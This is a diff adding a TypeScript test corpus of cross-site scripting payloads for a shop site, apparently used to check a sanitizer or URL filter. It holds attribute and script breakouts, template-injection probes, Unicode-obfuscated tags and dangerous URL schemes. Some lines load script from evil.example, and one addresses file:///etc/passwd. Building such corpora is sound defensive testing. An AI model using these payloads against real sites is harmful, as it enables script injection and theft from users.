@@ -1,0 +1,148 @@
+/** Ways out of the place a text stands in: an attribute, a title, a script, a comment, a text field, a template. */
+const ENDS = ['', '">', "'>", '</title>', '</script>', '-->', '</textarea></noscript></template>'];
+
+/** What a parser would run or load once it took the text for markup. */
+const ELEMENTS = [
+  '<script>alert(1)</script>',
+  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) /><a id=a><text>a</text></a></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  '<details open ontoggle=alert(1)>',
+  '<input autofocus onfocus=alert(1)>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="javascript:alert(1)">',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+  '<form action=javascript:alert(1)><button autofocus>go</button></form>',
+  '<style>@import "//evil.example/x.css";*{background:url(javascript:alert(1))}</style>',
+];
+
+const ATTRIBUTES = [
+  '" onmouseover="alert(1)',
+  "' onmouseover='alert(1)",
+  '` onmouseover=`alert(1)',
+  '" autofocus onfocus="alert(1)" x="',
+  '"onload="alert(1)"',
+  '" style="animation:x 1s" onanimationstart="alert(1)',
+  '&quot; onerror=&quot;alert(1)',
+  '&#34; onerror=&#34;alert(1)',
+  '"/onerror=alert(1)//',
+  'x" srcset="javascript:alert(1) 1x',
+  'x"><img/src/onerror=alert(1)>',
+  '"\tonerror\n=\r"alert(1)',
+  'a" is="x-evil" onconnect="alert(1)',
+  '">&lt;script&gt;alert(1)&lt;/script&gt;',
+];
+
+const SCRIPT_DATA = [
+  '</script><script>alert(1)//',
+  '</SCRIPT\t><script>alert(1)</script>',
+  '<!--<script>',
+  '<!--<script></script>--><script>alert(1)</script>',
+  '\\u003c/script>\\u003cscript>alert(1)',
+  '"}]}</script><img src=x onerror=alert(1)>',
+  '","__proto__":{"polluted":true},"x":"',
+  '\\"};alert(1);//',
+  '";alert(1);"',
+  "';alert(1);'",
+  '\u2028alert(1)\u2029',
+  '*/alert(1)/*',
+  '<!--page-head--><!--page-html--><!--page-data-->',
+  "$&$`$'$1$$",
+];
+
+const TEMPLATES = [
+  '{{7*7}}',
+  "{{constructor.constructor('alert(1)')()}}",
+  '${alert(1)}',
+  '#{alert(1)}',
+  '<%= alert(1) %>',
+  '[[${alert(1)}]]',
+  '{% raw %}alert(1){% endraw %}',
+  '@(alert(1))',
+  '*{alert(1)}',
+  '<div v-html="alert(1)" ng-app x-data="alert(1)">',
+  '%3Cscript%3Ealert(1)%3C/script%3E',
+  '[link](javascript:alert(1)) ![](x" onerror="alert(1))',
+];
+
+const UNICODE = [
+  '\u202Egpj.exe\u202C looks like a picture',
+  '\u2066<script>\u2069alert(1)\u2066</script>\u2069',
+  '\u200B<\u200Bscript>alert(1)</script>',
+  '\uFEFF<script>alert(1)</script>',
+  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
+  '\u02C2script\u02C3alert(1)',
+  '<scr\u0131pt>alert(1)</scr\u0131pt>',
+  '<\u017Fcript>alert(1)</\u017Fcript>',
+  '<img src=x onerror\u00A0=alert(1)>',
+  '\u00ABscript\u00BBalert(1)',
+  'Z\u0351\u0329\u0340a\u0353\u0300l\u033Bg\u0334o\u0328 <b onclick=alert(1)>',
+  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}<svg/onload=alert(1)>',
+  '\u{E0001}\u{E003C}\u{E0073}<script>alert(1)</script>',
+  'a\u0008\u0007\u001B[31m<script>alert(1)</script>',
+  '\uFFFD\uFFFE<script>alert(1)</script>',
+  '\u0085<script>\u0085alert(1)</script>',
+];
+
+/** Addresses that run something, or lead away while they look like a path of this site. */
+export const BAD_ADDRESSES = [
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  ' javascript:alert(1)',
+  '\u0001javascript:alert(1)',
+  '\tjavascript:alert(1)',
+  'java\tscript:alert(1)',
+  'java\nscript:alert(1)',
+  'java\r\nscript:alert(1)',
+  'javascript\u0009:alert(1)',
+  'javascript&colon;alert(1)',
+  'javascript&#58;alert(1)',
+  'jav&#x09;ascript:alert(1)',
+  'javascript://shop.example/%0aalert(1)',
+  'javascript:/*--></title>*/alert(1)',
+  'javascript:"<script>alert(1)</script>"',
+  'vbscript:msgbox(1)',
+  'livescript:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
+  'data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
+  'blob:https://shop.example/0a1b',
+  'filesystem:https://shop.example/temporary/x.html',
+  'file:///etc/passwd',
+  'view-source:https://shop.example/',
+  'about:blank#javascript:alert(1)',
+  'chrome://settings',
+  'intent://x#Intent;scheme=javascript;end',
+  'feed:javascript:alert(1)',
+  'jar:https://evil.example!/x.html',
+  '//evil.example/x.js',
+  '///evil.example',
+  '/\\evil.example',
+  '\\\\evil.example',
+  '/\t/evil.example',
+  '/\n/evil.example',
+  './/evil.example',
+  'https:evil.example',
+  'http:/\\evil.example',
+  '#javascript:alert(1)',
+  '?x=javascript:alert(1)',
+  'evil.example/x.js',
+];
+
+const MARKUP = ENDS.flatMap((end) => ELEMENTS.map((element) => end + element));
+
+/** Texts that try to become script or to leave the place they stand in; each is valid text for a document. */
+export const SCRIPT_CORPUS: readonly string[] = [
+  ...MARKUP,
+  ...ATTRIBUTES,
+  ...SCRIPT_DATA,
+  ...TEMPLATES,
+  ...UNICODE,
+  ...BAD_ADDRESSES,
+];
